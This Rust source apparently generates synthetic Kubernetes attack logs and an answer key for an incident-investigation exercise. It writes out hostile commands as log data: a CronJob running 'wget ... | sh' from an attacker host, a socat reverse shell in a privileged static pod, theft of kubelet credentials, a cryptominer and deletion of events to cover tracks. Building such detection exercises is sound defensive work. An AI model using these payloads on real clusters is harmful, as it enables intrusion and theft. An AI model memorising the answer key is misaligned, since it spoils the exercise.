        super::fmt::iso(&mut out, t, ' ', ':', 3, "]");
        out
    };
    let t1 = s.after(t, 900);
    s.cri(
        path,
        t1,
        "stdout",
        &format!("{}  net      use pool {POOL}  203.0.113.80", stamp(t1)),
    );
    let t2 = s.after(t1, 80);
    let height = 3_104_458 + s.rng.below(200);
    s.cri(
        path,
        t2,
        "stdout",
        &format!(
            "{}  net      new job from 203.0.113.80:3333 diff 120001 algo rx/0 height {height}",
            stamp(t2)
        ),
    );
    let t3 = s.after(t2, 20);
    let seed = s.rng.hex(16);
    s.cri(
        path,
        t3,
        "stdout",
        &format!(
            "{}  randomx  init dataset algo rx/0 (4 threads) seed {seed}...",
            stamp(t3)
        ),
    );
    let mut t = t3 + secs(60);
    let mut accepted = 0;
    while t < end {
        if s.rng.chance(1, 2) {
            accepted += 1;
            let ta = t - secs(s.rng.range(5, 40) as i64);
            let ms = s.rng.range(30, 90);
            s.cri(
                path,
                ta,
                "stdout",
                &format!(
                    "{}  cpu      accepted ({accepted}/0) diff 120001 ({ms} ms)",
                    stamp(ta)
                ),
            );
        }
        let rate = 1800 + s.rng.below(90);
        let (d1, d2) = (s.rng.below(10), s.rng.below(10));
        s.cri(
            path,
            t,
            "stdout",
            &format!(
                "{}  miner    speed 10s/60s/15m {rate}.{d1} {}.{d2} n/a H/s max 1893.0 H/s",
                stamp(t),
                rate - 4
            ),
        );
        t += secs(60);
    }
}

// ---------------------------------------------------------------- 3 ----

const INSIDER_IP: &str = "198.51.100.77";
const INSIDER_UA: &str = "kubectl/v1.27.4 (darwin/arm64) kubernetes/fa3d799";

fn stolen_kubeconfig(s: &mut Script) {
    let carol = &DEVS[2];
    let who = Ident::user(carol.name, carol.groups);
    let admin = r#"RBAC: allowed by ClusterRoleBinding "platform-admins" of ClusterRole "cluster-admin" to Group "platform-admins""#;
    // Carol's own, ordinary morning.
    let own: [Step; 4] = [
        (
            4,
            10,
            "get",
            "/api/v1/nodes?limit=500",
            Some(Obj::core("nodes", None, None)),
        ),
        (
            4,
            22,
            "list",
            "/api/v1/namespaces/kube-system/pods?limit=500",
            Some(Obj::core("pods", Some("kube-system"), None)),
        ),
        (
            6,
            3,
            "get",
            "/apis/apps/v1/namespaces/kube-system/deployments/coredns",
            Some(Obj::group(
                "apps",
                "v1",
                "deployments",
                Some("kube-system"),
                Some("coredns"),
            )),
        ),
        (
            7,
            41,
            "list",
            "/api/v1/namespaces/monitoring/pods?limit=500",
            Some(Obj::core("pods", Some("monitoring"), None)),
        ),
    ];
    requests(s, &own, who, (carol.ip, carol.ua), admin);
    // The same credentials from somewhere else.
    let recon = kubectl_recon([(12, 44), (12, 45), (12, 46), (12, 58)]);
    let theirs: [Step; 5] = [
        (
            13,
            20,
            "list",
            "/api/v1/namespaces/kube-system/secrets?limit=500",
            Some(Obj::core("secrets", Some("kube-system"), None)),
        ),
        (
            13,
            41,
            "get",
            "/api/v1/namespaces/kube-system/configmaps/kubeadm-config",
            Some(Obj::core(
                "configmaps",
                Some("kube-system"),
                Some("kubeadm-config"),
            )),
        ),
        (
            14,
            12,
            "list",
            "/apis/batch/v1/namespaces/kube-system/cronjobs?limit=500",
            Some(Obj::group(
                "batch",
                "v1",
                "cronjobs",
                Some("kube-system"),
                None,
            )),
        ),
        (
            14,
            30,
            "get",
            "/api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller",
            Some(Obj::core(
                "serviceaccounts",
                Some("kube-system"),
                Some("clusterrole-aggregation-controller"),
            )),
        ),
        (
            15,
            2,
            "list",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500",
            Some(Obj::group(
                "rbac.authorization.k8s.io",
                "v1",
                "clusterrolebindings",
                None,
                None,
            )),
        ),
    ];
    for steps in [&recon[..], &theirs[..]] {
        requests(s, steps, who, (INSIDER_IP, INSIDER_UA), admin);
    }
    let payload = "wget -qO- http://198.51.100.77:8080/p | sh";
    let body = format!(
        r#"{{"apiVersion":"batch/v1","kind":"CronJob","metadata":{{"name":"node-cleanup","namespace":"kube-system","labels":{{"k8s-app":"node-cleanup"}}}},"spec":{{"schedule":"*/10 * * * *","concurrencyPolicy":"Forbid","successfulJobsHistoryLimit":0,"failedJobsHistoryLimit":0,"jobTemplate":{{"spec":{{"template":{{"spec":{{"serviceAccountName":"clusterrole-aggregation-controller","hostNetwork":true,"tolerations":[{{"operator":"Exists"}}],"containers":[{{"name":"cleanup","image":"docker.io/library/busybox:1.36","command":["sh","-c",{}]}}],"restartPolicy":"OnFailure"}}}}}}}}}}}}"#,
        super::fmt::quoted(payload)
    );
    let t = s.t(2, 16, 3);
    s.audit(
        Audit::ok(t, "create", "/apis/batch/v1/namespaces/kube-system/cronjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict", who, INSIDER_IP, INSIDER_UA)
            .obj(Obj::group("batch", "v1", "cronjobs", Some("kube-system"), Some("node-cleanup")))
            .code(201)
            .body(&body)
            .reason(admin),
    );
    // The CronJob fires at 02:20 and 02:30 on prod-worker-01.
    let node = 1;
    let mut deleted = Vec::new();
    for m in [20u32, 30] {
        let fired = s.at(2, m, 0);
        let sched = fired / SEC / 60;
        let job = format!("node-cleanup-{sched}");
        let pod = format!("{job}-{}", s.rng.k8s_suffix(5));
        ctl_create(
            s,
            fired + 3_000_000,
            "cronjob-controller",
            "batch",
            "jobs",
            &job,
            &format!(
                r#"{{"kind":"Job","apiVersion":"batch/v1","metadata":{{"name":"{job}","namespace":"kube-system","creationTimestamp":null,"labels":{{"k8s-app":"node-cleanup"}},"ownerReferences":[{{"apiVersion":"batch/v1","kind":"CronJob","name":"node-cleanup","uid":"{}","controller":true,"blockOwnerDeletion":true}}]}},"spec":{{"template":{{"spec":{{"serviceAccountName":"clusterrole-aggregation-controller","hostNetwork":true,"containers":[{{"name":"cleanup","image":"docker.io/library/busybox:1.36","command":["sh","-c",{}]}}],"restartPolicy":"OnFailure"}}}}}}}}"#,
                name_uid("node-cleanup"),
                super::fmt::quoted(payload)
            ),
        );
        ctl_create(
            s,
            fired + 41_000_000,
            "job-controller",
            "",
            "pods",
            &pod,
            &format!(
                r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"generateName":"{job}-","namespace":"kube-system","creationTimestamp":null,"labels":{{"job-name":"{job}"}}}},"spec":{{"serviceAccountName":"clusterrole-aggregation-controller","hostNetwork":true,"containers":[{{"name":"cleanup","image":"docker.io/library/busybox:1.36","command":["sh","-c",{}]}}],"restartPolicy":"OnFailure","tolerations":[{{"operator":"Exists"}}]}},"status":{{}}}}"#,
                super::fmt::quoted(payload)
            ),
        );
        let cid = s.rng.hex(64);
        let t = s.at(2, m, 1) + s.rng.below(300_000_000) as i64;
        start_pod(s, node, "kube-system", &pod, &cid, t, "api");
        let path = container_log_path(&pod, "kube-system", "cleanup", &cid);
        let t = s.at(2, m, 4) + s.rng.below(200_000_000) as i64;
        for (i, line) in [
            "Connecting to 198.51.100.77:8080 (198.51.100.77:8080)",
            "writing to stdout",
            "-                    100% |********************************|   412  0:00:00 ETA",
            "written to stdout",
            "[+] kubelet creds: ok",
            "[+] beacon 198.51.100.77:8443 registered",
        ]
        .iter()
        .enumerate()
        {
            let stream = if i < 4 { "stderr" } else { "stdout" };
            s.cri(&path, t + i as i64 * 70_000_000, stream, line);
        }
        deleted.push(format!("{job}.{}", s.rng.hex(16)));
        deleted.push(format!("{pod}.{}", s.rng.hex(16)));
        deleted.push(format!("node-cleanup.{}", s.rng.hex(16)));
    }
    // Covering tracks: the events about the job go.
    for (i, ev) in deleted.iter().enumerate() {
        let t = s.t(2, 32, 15 + i as u32);
        let uri = format!("/api/v1/namespaces/kube-system/events/{ev}");
        s.audit(
            Audit::ok(t, "delete", &uri, who, INSIDER_IP, INSIDER_UA)
                .obj(Obj::core("events", Some("kube-system"), Some(ev)))
                .reason(admin),
        );
    }
    let t = s.t(2, 32, 40);
    s.audit(
        Audit::ok(
            t,
            "deletecollection",
            "/api/v1/namespaces/kube-system/events",
            who,
            INSIDER_IP,
            INSIDER_UA,
        )
        .obj(Obj::core("events", Some("kube-system"), None))
        .reason(admin)
        .latency(212_000),
    );
}

fn ctl_create(
    s: &mut Script,
    t: i64,
    controller: &str,
    group: &str,
    resource: &str,
    name: &str,
    body: &str,
) {
    let account = ServiceAccount::new("kube-system", controller);
    let who = account.ident();
    let uri = if group.is_empty() {
        format!("/api/v1/namespaces/kube-system/{resource}")
    } else {
        format!("/apis/{group}/v1/namespaces/kube-system/{resource}")
    };
    let ua = format!("{KCM_UA}/system:serviceaccount:kube-system:{controller}");
    let reason = format!(
        r#"RBAC: allowed by ClusterRoleBinding "system:controller:{controller}" of ClusterRole "system:controller:{controller}" to ServiceAccount "{controller}/kube-system""#
    );
    s.audit(
        Audit::ok(t, "create", &uri, who, APISERVER_IP, &ua)
            .obj(Obj::group(
                group,
                "v1",
                resource,
                Some("kube-system"),
                Some(name),
            ))
            .code(201)
            .body(body)
            .reason(&reason),
    );
}

// ---------------------------------------------------------------- 4 ----

const SSH_IP: &str = "203.0.113.99";
/// The worker the brute force lands on (its logs come as a support bundle).
pub const VICTIM: usize = 3;
const STATIC_POD: &str = "kube-metrics-prod-worker-03";

fn ssh_to_kubelet(s: &mut Script) {
    let node = VICTIM;
    let users = [
        "root", "admin", "ubuntu", "root", "test", "ubuntu", "oracle", "root", "ubuntu", "deploy",
        "root", "ubuntu",
    ];
    let mut pid = 0u64;
    let mut port = 0u64;
    for i in 0..48u32 {
        let sec = 3 + i * 275 / 47;
        let t = s.at(2, 5, 0) + secs(sec as i64) + s.rng.below(400_000_000) as i64;
        if i % 3 == 0 {
            pid = s.rng.range(30_000, 39_999);
            port = s.rng.range(40_000, 60_999);
        }
        let tag = format!("sshd[{pid}]");
        let user = users[i as usize % users.len()];
        let valid = matches!(user, "root" | "ubuntu");
        if valid {
            s.auth(node, t, &tag, &format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={SSH_IP}  user={user}"));
            let t2 = s.after(t, 1800);
            s.auth(
                node,
                t2,
                &tag,
                &format!("Failed password for {user} from {SSH_IP} port {port} ssh2"),
            );
        } else {
            s.auth(
                node,
                t,
                &tag,
                &format!("Invalid user {user} from {SSH_IP} port {port}"),
            );
            let t1 = s.after(t, 2);
            s.auth(
                node,
                t1,
                &tag,
                "pam_unix(sshd:auth): check pass; user unknown",
            );
            s.auth(node, t1 + 1000, &tag, &format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={SSH_IP}"));
            let t2 = s.after(t, 1800);
            s.auth(
                node,
                t2,
                &tag,
                &format!("Failed password for invalid user {user} from {SSH_IP} port {port} ssh2"),
            );
        }
        if i % 3 == 2 {
            let t3 = s.after(t, 2100);
            let msg = if valid {
                format!("Connection closed by authenticating user {user} {SSH_IP} port {port} [preauth]")
            } else {
                format!("Connection closed by invalid user {user} {SSH_IP} port {port} [preauth]")
            };
            s.auth(node, t3, &tag, &msg);
        }
    }
    let tag = "sshd[40127]";
    let t = s.t(2, 9, 41);
    s.auth(
        node,
        t,
        tag,
        &format!("Accepted password for ubuntu from {SSH_IP} port 52214 ssh2"),
    );
    let t1 = s.after(t, 6);
    s.auth(
        node,
        t1,
        tag,
        "pam_unix(sshd:session): session opened for user ubuntu(uid=1000) by (uid=0)",
    );
    let t2 = s.after(t, 30);
    s.auth(
        node,
        t2,
        "systemd-logind[598]",
        "New session 31 of user ubuntu.",
    );
    s.syslog(
        node,
        t2 + 2_000_000,
        "systemd[1]",
        "Started session-31.scope - Session 31 of User ubuntu.",
    );
    let sudo = |s: &mut Script, m: u32, sec: u32, cmd: &str| {
        let t = s.t(2, m, sec);
        s.auth(
            node,
            t,
            "sudo",
            &format!("  ubuntu : TTY=pts/0 ; PWD=/home/ubuntu ; USER=root ; COMMAND={cmd}"),
        );
        let t1 = s.after(t, 2);
        s.auth(
            node,
            t1,
            "sudo",
            "pam_unix(sudo:session): session opened for user root(uid=0) by ubuntu(uid=1000)",
        );
        let t2 = s.after(t, 150);
        s.auth(
            node,
            t2,
            "sudo",
            "pam_unix(sudo:session): session closed for user root",
        );
    };
    sudo(s, 10, 5, "/usr/bin/cat /etc/kubernetes/kubelet.conf");
    sudo(
        s,
        10,
        31,
        "/usr/bin/cp /var/lib/kubelet/pki/kubelet-client-current.pem /tmp/.k.pem",
    );
    sudo(s, 10, 48, "/usr/bin/chmod 644 /tmp/.k.pem");
    // The kubelet's identity, from the attacker's machine.
    let user = format!("system:node:{}", NODES[node].name);
    let who = Ident::user(&user, NODE_GROUPS);
    let ua = KUBECTL_UA;
    let discovery = r#"RBAC: allowed by ClusterRoleBinding "system:discovery" of ClusterRole "system:discovery" to Group "system:authenticated""#;
    for (m, sec, uri) in [
        (12u32, 10u32, "/api?timeout=32s"),
        (12, 11, "/apis?timeout=32s"),
    ] {
        let t = s.t(2, m, sec);
        s.audit(Audit::ok(t, "get", uri, who, SSH_IP, ua).reason(discovery));
    }
    let t = s.t(2, 12, 12);
    s.audit(
        Audit::ok(t, "list", "/api/v1/nodes?limit=500", who, SSH_IP, ua)
            .obj(Obj::core("nodes", None, None)),
    );
    let t = s.t(2, 12, 20);
    s.audit(
        Audit::ok(t, "list", "/api/v1/pods?limit=500", who, SSH_IP, ua)
            .obj(Obj::core("pods", None, None)),
    );
    let no_rel = format!(
        r#"secrets "db-credentials" is forbidden: User "{user}" cannot get resource "secrets" in API group "" in the namespace "payments": no relationship found between node '{}' and this object"#,
        NODES[node].name
    );
    let t = s.t(2, 12, 41);
    s.audit(
        Audit::ok(
            t,
            "get",
            "/api/v1/namespaces/payments/secrets/db-credentials",
            who,
            SSH_IP,
            ua,
        )
        .obj(Obj::core(
            "secrets",
            Some("payments"),
            Some("db-credentials"),
        ))
        .fail(403, "Forbidden", &no_rel),
    );
    let msg = format!(
        r#"secrets is forbidden: User "{user}" cannot list resource "secrets" in API group "" in the namespace "kube-system": can only read namespaced object of this type"#
    );
    let t = s.t(2, 12, 44);
    s.audit(
        Audit::ok(
            t,
            "list",
            "/api/v1/namespaces/kube-system/secrets?limit=500",
            who,
            SSH_IP,
            ua,
        )
        .obj(Obj::core("secrets", Some("kube-system"), None))
        .fail(403, "Forbidden", &msg),
    );
    let t = s.t(2, 12, 58);
    s.audit(
        Audit::ok(
            t,
            "get",
            "/api/v1/namespaces/shop/secrets/cart-redis-password",
            who,
            SSH_IP,
            ua,
        )
        .obj(Obj::core(
            "secrets",
            Some("shop"),
            Some("cart-redis-password"),
        )),
    );
    let debug = r#"{"kind":"Pod","apiVersion":"v1","metadata":{"name":"debug-shell","namespace":"default","creationTimestamp":null},"spec":{"containers":[{"name":"debug-shell","image":"docker.io/library/alpine:3.19","command":["sleep","infinity"],"resources":{}}],"restartPolicy":"Never"},"status":{}}"#;
    let t = s.t(2, 13, 30);
    s.audit(
        Audit::ok(t, "create", "/api/v1/namespaces/default/pods?fieldManager=kubectl-run", who, SSH_IP, ua)
            .obj(Obj::core("pods", Some("default"), Some("debug-shell")))
            .body(debug)
            .fail(403, "Forbidden", r#"pods "debug-shell" is forbidden: pod does not have "kubernetes.io/config.mirror" annotation, node "prod-worker-03" can only create mirror pods"#),
    );
    let mirror_body = |annot: &str| {
        format!(
            r#"{{"kind":"Pod","apiVersion":"v1","metadata":{{"name":"{STATIC_POD}","namespace":"kube-system","creationTimestamp":null,"annotations":{{"kubernetes.io/config.hash":"{annot}","kubernetes.io/config.mirror":"{annot}","kubernetes.io/config.source":"file"}}}},"spec":{{"volumes":[{{"name":"host","hostPath":{{"path":"/","type":""}}}}],"containers":[{{"name":"metrics","image":"docker.io/library/alpine:3.19","command":["sh","-c","apk add --no-cache socat >/dev/null && socat TCP:203.0.113.99:4443 EXEC:/bin/sh,pty,stderr"],"resources":{{}},"volumeMounts":[{{"name":"host","mountPath":"/host"}}],"securityContext":{{"privileged":true}}}}],"restartPolicy":"Always","nodeName":"prod-worker-03","hostPID":true,"tolerations":[{{"operator":"Exists","effect":"NoExecute"}}],"priorityClassName":"system-node-critical"}},"status":{{}}}}"#
        )
    };
    let hash1 = s.rng.hex(32);
    let body = mirror_body(&hash1);
    let t = s.t(2, 14, 2);
    s.audit(
        Audit::ok(
            t,
            "create",
            "/api/v1/namespaces/kube-system/pods",
            who,
            SSH_IP,
            ua,
        )
        .obj(Obj::core("pods", Some("kube-system"), Some(STATIC_POD)))
        .code(201)
        .body(&body),
    );
    // The real kubelet removes the mirror pod it has no manifest for.
    let kubelet = Ident::user(&user, NODE_GROUPS);
    let t = s.t(2, 14, 4);
    s.klog(
        node,
        t,
        'I',
        "kubelet.go:2054",
        &format!(
            r#""Trying to delete pod" pod="kube-system/{STATIC_POD}" podUID="{}""#,
            name_uid(&hash1)
        ),
    );
    let uri = format!("/api/v1/namespaces/kube-system/pods/{STATIC_POD}");
    let td = s.after(t, 20);
    s.audit(
        Audit::ok(td, "delete", &uri, kubelet, NODES[node].ip, KUBELET_UA).obj(Obj::core(
            "pods",
            Some("kube-system"),
            Some(STATIC_POD),
        )),
    );
    // So the attacker writes a static pod manifest over SSH.
    sudo(
        s,
        15,
        10,
        "/usr/bin/tee /etc/kubernetes/manifests/kube-metrics.yaml",
    );
    let cid = s.rng.hex(64);
    let t = s.t(2, 15, 11);
    start_pod(s, node, "kube-system", STATIC_POD, &cid, t, "file");
    let hash2 = s.rng.hex(32);
    let body = mirror_body(&hash2);
    let t = s.t(2, 15, 12);
    s.audit(
        Audit::ok(
            t,
            "create",
            "/api/v1/namespaces/kube-system/pods",
            kubelet,
            NODES[node].ip,
            KUBELET_UA,
        )
        .obj(Obj::core("pods", Some("kube-system"), Some(STATIC_POD)))
        .code(201)
        .body(&body),
    );
    let path = container_log_path(STATIC_POD, "kube-system", "metrics", &cid);
    let t = s.t(2, 15, 14);
    for (i, line) in [
        "fetch https://dl-cdn.alpinelinux.org/alpine/v3.19/main/x86_64/APKINDEX.tar.gz",
        "fetch https://dl-cdn.alpinelinux.org/alpine/v3.19/community/x86_64/APKINDEX.tar.gz",
        "(1/3) Installing ncurses-terminfo-base (6.4_p20231125-r0)",
        "(2/3) Installing readline (8.2.1-r2)",
        "(3/3) Installing socat (1.7.4.4-r1)",
        "OK: 8 MiB in 18 packages",
    ]
    .iter()
    .enumerate()
    {
        s.cri(&path, t + i as i64 * 180_000_000, "stdout", line);
    }
    let host = NODES[node].name;
    let short = cid[..12].to_string();
    let fields = |cmd: &str, name: &str, extra: Option<(&'static str, String)>| {
        let mut f: Vec<(&'static str, String)> = vec![
            ("evt.type", "container".into()),
            ("user.name", "root".into()),
            ("user.uid", "0".into()),
            ("proc.cmdline", cmd.into()),
            ("proc.name", name.into()),
            ("container.id", short.clone()),
            (
                "container.image.repository",
                "docker.io/library/alpine".into(),
            ),
            ("container.name", "metrics".into()),
            ("k8s.ns.name", "kube-system".into()),
            ("k8s.pod.name", STATIC_POD.into()),
        ];
        if let Some(e) = extra {
            f.push(e);
        }
        f
    };
    let t = s.t(2, 15, 13);
    falco(
        s,
        t,
        host,
        &PRIVILEGED_CONTAINER,
        &fields(&format!("container:{short}"), "container", None),
    );
    let t = s.t(2, 15, 16);
    let mut f = fields(
        "socat TCP:203.0.113.99:4443 EXEC:/bin/sh,pty,stderr",
        "socat",
        Some(("fd.name", "10.0.1.23:40312->203.0.113.99:4443".into())),
    );
    f[0].1 = "dup2".into();
    falco(
        s,
        t,
        host,
        &Alert {
            rule: "Redirect STDOUT/STDIN to Network Connection in Container",
            priority: "Notice",
            text: "Redirect stdout/stdin to network connection",
            tags: &[
                "T1059",
                "container",
                "maturity_stable",
                "mitre_execution",
                "network",
                "process",
            ],
        },
        &f,
    );
    let t = s.t(2, 16, 2);
    s.auth(
        node,
        t,
        tag,
        &format!("Received disconnect from {SSH_IP} port 52214:11: disconnected by user"),
    );
    let t1 = s.after(t, 3);
    s.auth(
        node,
        t1,
        tag,
        &format!("Disconnected from user ubuntu {SSH_IP} port 52214"),
    );
    let t2 = s.after(t, 8);
    s.auth(
        node,
        t2,
        tag,
        "pam_unix(sshd:session): session closed for user ubuntu",
    );
    let t3 = s.after(t, 20);
    s.auth(
        node,
        t3,
        "systemd-logind[598]",
        "Session 31 logged out. Waiting for processes to exit.",
    );
    let t4 = s.after(t3, 30);
    s.auth(node, t4, "systemd-logind[598]", "Removed session 31.");
    let t = s.t(2, 17, 30);
    s.audit(
        Audit::ok(
            t,
            "get",
            "/api/v1/namespaces/shop/secrets/cart-redis-password",
            who,
            SSH_IP,
            ua,
        )
        .obj(Obj::core(
            "secrets",
            Some("shop"),
            Some("cart-redis-password"),
        )),
    );
}

// ---------------------------------------------------------- answers ----

pub fn answer_key(name: &str) -> Option<AnswerKey> {
    let date = super::scenarios().iter().find(|s| s.name == name)?.date();
    let key = match name {
        "anonymous-to-admin" => AnswerKey {
            scenario: "anonymous-to-admin",
            date,
            expected_rules: vec![
                "forbidden-requests",
                "clusterrolebinding-cluster-admin",
                "anonymous-request-allowed",
                "secrets-list-all-namespaces",
                "secrets-read-many",
                "serviceaccount-created",
                "serviceaccount-token-created",
            ],
            attacker_ips: vec![ANON_IP],
            attacker_identities: vec!["system:anonymous", "system:serviceaccount:kube-system:metrics-agent"],
            questions: vec![
                ("What made anonymous access to the API possible, and who did it?", "ClusterRoleBinding debug-anonymous-access, binding User system:anonymous to cluster-admin, created by carol@corp.example from 10.20.4.31 at 02:01:48"),
                ("Was the attacker seen before the binding existed?", "Yes: 203.0.113.7 was refused (403) as system:anonymous at 02:00:41 and 02:00:42"),
                ("Which identity touched secrets first?", "system:anonymous, from 203.0.113.7 at 02:13:07 (list secrets in all namespaces)"),
                ("How many secrets were then read one by one?", "12, from 02:13:10 to 02:13:44, across payments, shop, monitoring, argocd, kube-system and ingress-nginx"),
                ("How did the attacker keep access?", "ServiceAccount kube-system/metrics-agent (02:15:02), ClusterRoleBinding metrics-agent-admin to cluster-admin (02:15:09), and a one-year token for it (02:15:20)"),
                ("When did the new identity first act, and from where?", "02:16:31, system:serviceaccount:kube-system:metrics-agent from 203.0.113.7 with kubectl/v1.30.1"),
            ],
        },
        "rce-to-node" => AnswerKey {
            scenario: "rce-to-node",
            date,
            expected_rules: vec![
                "web-command-injection",
                "download-and-execute",
                "falco-alert",
                "sa-token-read",
                "sa-token-used-externally",
                "forbidden-requests",
                "exec-into-pod",
                "privileged-pod",
                "miner-in-container-log",
                "hostpath-mount",
                "host-namespaces-pod",
                "node-user-created",
                "node-cron-persistence",
            ],
            attacker_ips: vec![EXPLOIT_IP, C2_IP, "203.0.113.80"],
            attacker_identities: vec!["system:serviceaccount:shop:frontend"],
            questions: vec![
                ("What was the initial access?", "Command injection in /api/export of shop/frontend-7d9c8b6f5-x2k4p: 198.51.100.23 ran `id` at 02:09:40 (container log, Falco 'Run shell untrusted')"),
                ("Where did the first payload come from?", "http://203.0.113.45/kworker, fetched with wget at 02:10:15 and executed (Falco 'Drop and execute new binary in container' at 02:10:16)"),
                ("Which credential was stolen, and where was it used?", "The service-account token of shop/frontend (system:serviceaccount:shop:frontend), read at 02:11:02 and used from 203.0.113.45 with kubectl/v1.30.0 from 02:13:45; the token still names the pod frontend-7d9c8b6f5-x2k4p in user.extra"),
                ("What was the stolen token not allowed to do?", "List secrets in shop (02:13:58) and list pods cluster-wide (02:14:03): both 403"),
                ("Which pod did the attacker exec into?", "shop/cart-6f7b9d5c4-8mzq2 at 02:15:33"),
                ("Where does the miner run and where does it send its work?", "Privileged pod shop/log-rotate-7x2kq (created 02:17:10, on prod-worker-02) mining to stratum+tcp://203.0.113.80:3333"),
                ("How did the attacker reach the node?", "Pod shop/sys-check (privileged, hostPID, hostNetwork, hostPath / at /host, nodeName prod-worker-02) at 02:20:52, then exec `chroot /host bash` at 02:21:30"),
                ("What persistence is on the node?", "User kube-svc added to sudo at 02:22:40-02:22:49 and a root crontab (02:23:10) that runs curl http://203.0.113.45/s.sh | sh"),
            ],
        },
        "stolen-kubeconfig" => AnswerKey {
            scenario: "stolen-kubeconfig",
            date,
            expected_rules: vec![
                "user-from-new-address",
                "secrets-list-namespace",
                "cronjob-kube-system",
                "privileged-serviceaccount-in-workload",
                "hostnetwork-pod",
                "events-deleted",
            ],
            attacker_ips: vec![INSIDER_IP],
            attacker_identities: vec!["carol@corp.example"],
            questions: vec![
                ("Whose credentials were abused, and what gives it away?", "carol@corp.example: from 198.51.100.77 with kubectl/v1.27.4 (darwin/arm64) from 02:12:44, while carol works from 10.20.4.31 with kubectl/v1.29.2 (linux/amd64)"),
                ("Which audit file holds the first request from the new address?", "The rotated, gzipped kube-apiserver/audit-*.log.gz, not audit.log"),
                ("What persistence was created?", "CronJob kube-system/node-cleanup at 02:16:03: every 10 minutes, hostNetwork, as the clusterrole-aggregation-controller service account, running wget -qO- http://198.51.100.77:8080/p | sh"),
                ("When did it run, and where?", "02:20:00 and 02:30:00, jobs node-cleanup-29577740 and node-cleanup-29577750 on prod-worker-01"),
                ("How were tracks covered?", "6 events in kube-system deleted one by one from 02:32:15, then a deletecollection of all kube-system events at 02:32:40"),
            ],
        },
        "ssh-to-kubelet" => AnswerKey {
            scenario: "ssh-to-kubelet",
            date,
            expected_rules: vec![
                "ssh-bruteforce",
                "ssh-success-after-failures",
                "sudo-reads-kubelet-credentials",
                "node-identity-from-external-address",
                "forbidden-requests",
                "node-identity-reads-secret",
                "node-identity-creates-pod",
                "static-pod-manifest-written",
                "privileged-pod",
                "hostpath-mount",
                "falco-alert",
            ],
            attacker_ips: vec![SSH_IP],
            attacker_identities: vec!["ubuntu", "system:node:prod-worker-03"],
            questions: vec![
                ("Where did the brute force come from, and how long did it last?", "203.0.113.99: 48 failed passwords against prod-worker-03 from 02:05:03 to 02:09:38"),
                ("Which account fell, and when?", "ubuntu: Accepted password at 02:09:41"),
                ("What did the attacker take from the node?", "The kubelet's credentials: sudo cat /etc/kubernetes/kubelet.conf at 02:10:05 and a copy of /var/lib/kubelet/pki/kubelet-client-current.pem at 02:10:31"),
                ("How can you tell the node identity was used by someone else?", "system:node:prod-worker-03 made requests from 203.0.113.99 with a kubectl user agent from 02:12:10; the real kubelet uses 10.0.1.23 and kubelet/v1.29.2"),
                ("What was the node identity refused?", "payments/db-credentials (02:12:41, no relationship to the node), listing kube-system secrets (02:12:44), and a normal pod default/debug-shell (02:13:30, only mirror pods allowed)"),
                ("Which pod did the attacker get running?", "Static pod kube-system/kube-metrics-prod-worker-03 (privileged, hostPath /) from /etc/kubernetes/manifests/kube-metrics.yaml written with sudo at 02:15:10; it connects back to 203.0.113.99:4443"),
            ],
        },
        _ => return None,
    };
    Some(key)
}
